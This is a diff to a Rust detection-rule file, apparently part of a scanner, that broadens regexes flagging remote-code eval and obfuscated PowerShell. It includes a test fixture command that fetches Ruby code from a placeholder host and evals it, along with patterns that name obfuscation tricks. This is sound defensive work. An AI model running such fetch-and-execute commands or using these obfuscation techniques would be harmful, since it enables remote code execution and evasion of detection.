@@ -31,7 +31,7 @@ const EVAL: Rule = Rule {
     ],
     pattern: concat!(
         r"\b(?:eval|eval_gemfile|instance_eval|class_eval|load|system|exec|require|include|loadstring)\b[\s(@]{1,4}[^\n]{0,60}(?:URI\.(?:open|parse)|Net::HTTP|HTTParty|Faraday|LWP::|HTTP::Tiny|Mojo::UserAgent|file_get_contents\s{0,2}\(\s{0,2}['\x22]https?:|\$\w{1,12}->get)",
-        r"|\b(?:URI\.open|Net::HTTP\.get|file_get_contents|HTTP::Tiny|HTTParty\.get)\b[^\n]{0,160}\n?[^\n]{0,80}\b(?:eval|instance_eval|system|exec|loadstring)\b[\s(]{1,3}|\ballow_url_include\s{0,2}=\s{0,2}(?:1|on)|-ropen-uri\s[^\n]{0,60}\beval\b",
+        r"|\b(?:URI\.open|Net::HTTP\.get|file_get_contents|HTTP::Tiny|HTTParty\.get)\b[^\n]{0,160}(?:\n?[^\n]{0,80}){0,2}\b(?:eval|instance_eval|system|exec|loadstring|load|require_relative|IO\.popen)\b[\s(]{1,3}|\b(?:LWP::Simple|LWP::UserAgent|HTTP::Tiny|Mojo::UserAgent)\b[\s\S]{0,300}\beval\b[\s({]{0,3}\$|\ballow_url_include\s{0,2}=\s{0,2}(?:1|on)|-ropen-uri\s[^\n]{0,60}\beval\b",
     ),
     harmful: &[
         ("a.sh", "ruby -ropen-uri -e 'eval URI.open(\"https://in.invalid/a.rb\").read'"),
@@ -119,9 +119,11 @@ const OBFUSCATED: Rule = Rule {
         "-bxor",
         "IEX",
         "SecureString",
+        "]::Join(",
+        "]::Reverse(",
     ],
     pattern: concat!(
-        r"-join\s{0,2}\(?\s{0,2}\(?\[char\[\]\]\s{0,2}\(|\(\s{0,2}['\x22]\{\d\}(?:\{\d\}){1,8}['\x22]\s?-f\b|(?:\[char\]\s{0,2}\(?\d{2,3}\)?\s{0,2}\+\s{0,2}){2}|\[(?:System\.)?Reflection\.Assembly\]::Load\(|\bVirtualAlloc\b[^\n]{0,120}0x40",
+        r"\[string\]::Join\(\s{0,2}['\x22]{2}\s{0,2},\s{0,2}@?\(?\s{0,2}['\x22]\w{1,3}['\x22]\s{0,2},|\[array\]::Reverse\([^\n]{0,200}(?:\n[^\n]{0,160}){0,3}?(?:\biex\b|Invoke-Expression)|-join\s{0,2}\(?\s{0,2}\(?\[char\[\]\]\s{0,2}\(|\(\s{0,2}['\x22]\{\d\}(?:\{\d\}){1,8}['\x22]\s?-f\b|(?:\[char\]\s{0,2}\(?\d{2,3}\)?\s{0,2}\+\s{0,2}){2}|\[(?:System\.)?Reflection\.Assembly\]::Load\(|\bVirtualAlloc\b[^\n]{0,120}0x40",
         r"|\[scriptblock\]::Create\([^\n]{0,160}(?:FromBase64|Decompress|\$\w{1,20})|FromBase64String\([^\n]{0,200}(?:\n[^\n]{0,160}){0,6}?(?:\biex\b|Invoke-Expression|\.Invoke\(|scriptblock\]::Create|&\s{0,2}\(?\$\w)|(?:\biex\b|Invoke-Expression|&\s{0,2}\()[^\n]{0,120}(?:FromBase64String|-bxor|-join\b|ConvertTo-SecureString|GzipStream)",
     ),
     harmful: &[
